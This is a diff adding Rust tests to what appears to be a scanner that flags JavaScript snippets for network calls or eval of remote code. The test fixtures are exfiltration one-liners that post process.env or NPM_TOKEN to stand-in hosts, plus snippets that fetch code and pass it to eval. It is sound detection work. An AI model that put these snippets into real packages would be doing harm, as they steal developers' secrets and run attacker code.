@@ -308,3 +308,36 @@ fn node_itself() {
         (r#"require("dns").resolveTxt("x.invalid", (e, r) => eval(r[0].join("")))"#, Evaluated),
     ]);
 }
+
+#[test]
+fn requests_that_wait_for_their_answer() {
+    check(&[
+        (r#"require("sync-request")("POST", "https://drop.invalid", {json: process.env})"#, HOST),
+        (r#"eval(require("sync-request")("GET", "https://x.invalid").getBody("utf8"))"#, Evaluated),
+        (
+            r#"require("sync-fetch")("https://drop.invalid", {method: "POST", body: process.env.NPM_TOKEN})"#,
+            HOST,
+        ),
+        (r#"eval(require("sync-fetch")("https://x.invalid").text())"#, Evaluated),
+    ]);
+}
+
+#[test]
+fn smaller_clients() {
+    check(&[
+        (
+            r#"const {request} = require("urllib"); request("https://drop.invalid", {data: {t: process.env.NPM_TOKEN}})"#,
+            HOST,
+        ),
+        (r#"require("miniget")("https://x.invalid").text().then(eval)"#, Evaluated),
+        (
+            r#"const {XMLHttpRequest} = require("xmlhttprequest"); const x = new XMLHttpRequest(); x.open("POST", "https://drop.invalid"); x.send(process.env.NPM_TOKEN)"#,
+            HOST,
+        ),
+        (
+            r#"const X = require("xhr2"); const x = new X(); x.open("POST", "https://drop.invalid"); x.send(process.env.NPM_TOKEN)"#,
+            HOST,
+        ),
+        (r#"require("sync-request")("GET", "https://x.invalid").getBody("utf8").length"#, Nothing),
+    ]);
+}
